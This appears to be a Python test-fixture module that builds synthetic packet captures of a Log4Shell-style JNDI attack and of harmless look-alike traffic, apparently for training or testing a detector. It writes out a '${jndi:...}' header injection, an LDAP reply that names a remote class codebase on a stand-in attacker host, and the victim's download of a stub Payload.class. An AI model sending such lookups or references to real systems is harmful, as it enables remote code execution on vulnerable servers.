@@ -1,0 +1,127 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""What the steps of an attack, and what only looks like them, are on the wire: captures for stories.py and orders.py.
+Standard library only."""
+import struct
+
+import wires as w
+from wires import ber, pcapfile, wire
+
+SECOND = 10**9
+VICTIM, OTHER, RESOLVER = "10.0.0.1", "10.0.0.2", "10.0.0.53"  # at home
+EVIL, SCANNER = "203.0.113.9", "198.51.100.7"
+
+
+def text(value):
+    return ber(4, value.encode())
+
+
+def jdk_bind():
+    return bytes.fromhex("300c020101600702010304008000")
+
+
+def jdk_search(base):
+    """As the JDK's LDAP provider asks for a name: scope base, all attributes, ManageDsaIT."""
+    search = (text(base) + ber(10, b"\0") + ber(10, b"\3") + ber(2, b"\0") + ber(2, b"\0") + ber(1, b"\0") + ber(0x87, b"objectClass") +
+              ber(0x30))
+    return ber(0x30, ber(2, b"\2"), ber(0x63, search), ber(0xa0, ber(0x30, text("2.16.840.1.113730.3.4.2"))))
+
+
+def done(number, tag):
+    return ber(0x30, ber(2, bytes([number])), ber(tag, b"\x0a\x01\0\x04\0\x04\0"))
+
+
+def reference(base, codebase, name="Payload"):
+    """The answer that names a class, and where it lies (RFC 2713)."""
+    rows = (("objectClass", "javaNamingReference"), ("javaClassName", name), ("javaFactory", name), ("javaCodeBase", codebase))
+    attributes = b"".join(ber(0x30, text(key), ber(0x31, text(value))) for key, value in rows if value)
+    return ber(0x30, ber(2, b"\2"), ber(0x64, text(base), ber(0x30, attributes)))
+
+
+def java_class(name):
+    """The least that is a class file (JVMS 4.1): two names, no member."""
+    def utf8(value):
+        return b"\1" + w.sized(2, value.encode())
+    pool = utf8(name) + b"\7\0\1" + utf8("java/lang/Object") + b"\7\0\3"
+    return b"\xca\xfe\xba\xbe\0\0\0\x34\0\5" + pool + struct.pack("!7H", 0x21, 2, 4, 0, 0, 0, 0)
+
+
+class Tale(w.Capture):
+    """Says who did what; time passes by wait() alone, and a millisecond with each packet."""
+
+    def wait(self, seconds):
+        self.when += int(seconds * SECOND)
+
+    def between(self, client, server):
+        self.client, self.server = client, server
+        return self
+
+    # --- the attacker ---
+
+    def lookup(self, name, victim=VICTIM, sender=SCANNER, echo=False, port=8080, header="X-Api"):
+        """A request with the lookup in a header; echo: an error page that repeats it."""
+        said = "${jndi:%s}" % name if "${" not in name[:2] else name
+        page = "no such thing: %s" % said if echo else "ok"
+        request = "GET / HTTP/1.1\r\nHost: app.example\r\n%s: %s\r\n\r\n" % (header, said)
+        answer = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s" % (len(page), page)
+        self.between(sender, victim).tcp(port, [("c", request.encode()), ("s", answer.encode())])
+        self.wait(0.2)
+
+    # --- whoever calls ---
+
+    def search(self, base="a", client=VICTIM, server=EVIL, port=1389, codebase=None):
+        """The JDK asks for an entry, and gets one only if there is a codebase to name."""
+        answer = reference(base, codebase) if codebase else b""
+        self.between(client, server).tcp(port, [("c", jdk_bind()), ("s", done(1, 0x61)), ("c", jdk_search(base)),
+                                                ("s", answer + done(2, 0x65))])
+        self.wait(0.1)
+
+    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class"):
+        body = java_class("Payload")
+        head = "HTTP/1.0 200 OK\r\nContent-Type: application/java-vm\r\nContent-Length: %d\r\n\r\n" % len(body)
+        request = "GET %s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n" % (path, agent, server, port)
+        self.between(client, server).tcp(port, [("c", request.encode()), ("s", head.encode() + body)])
+        self.wait(0.1)
+
+    def browse(self, client=VICTIM, server=EVIL, port=1389):
+        """An analyst's wget: another protocol at that place."""
+        self.between(client, server).tcp(port, [("c", b"GET / HTTP/1.1\r\nUser-Agent: Wget/1.21\r\nHost: x\r\n\r\n"),
+                                                ("s", b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")])
+        self.wait(0.1)
+
+    def hello(self, client=VICTIM, server=EVIL, port=4444):
+        """A connection in which nobody speaks."""
+        self.between(client, server).tcp(port, [])
+        self.wait(0.1)
+
+    def syn(self, client, server, port, again):
+        self.between(client, server)
+        self.port += 1
+        for _ in range(again):
+            self.put("c", wire.TCP, wire.tcp(client, server, self.port, port, 1000, 0, "S"))
+
+    def refused(self, client=VICTIM, server=EVIL, port=1389):
+        self.syn(client, server, port, 1)
+        self.put("s", wire.TCP, wire.tcp(server, client, port, self.port, 0, 1001, "RA"))
+        self.wait(0.1)
+
+    def silent(self, client=VICTIM, server=EVIL, port=1389):
+        """Nobody answers; whoever asks tries thrice."""
+        self.syn(client, server, port, 3)
+        self.wait(0.1)
+
+    def asks(self, name, client=VICTIM, answer=None, server=RESOLVER, kind=1):
+        query = w.dns_query(name.encode(), kind)
+        data = wire.packed(answer) if answer else b""
+        back = w.dns_answer(name.encode(), kind, data) if answer else query[:2] + b"\x81\x83" + query[4:]
+        self.between(client, server).udp(53, [("c", query), ("s", back)])
+        self.wait(0.1)
+
+    # --- files ---
+
+    def files(self, folder, name, cuts):
+        """One capture for each part between two of the places (counts of frames) where it is cut."""
+        paths = []
+        for number, (start, end) in enumerate(zip([0] + cuts, cuts + [len(self.frames)])):
+            paths.append(folder / ("%s-%d.pcap" % (name, number)))
+            paths[-1].write_bytes(pcapfile.pcap(self.frames[start:end], pcapfile.ETHERNET))
+        return paths
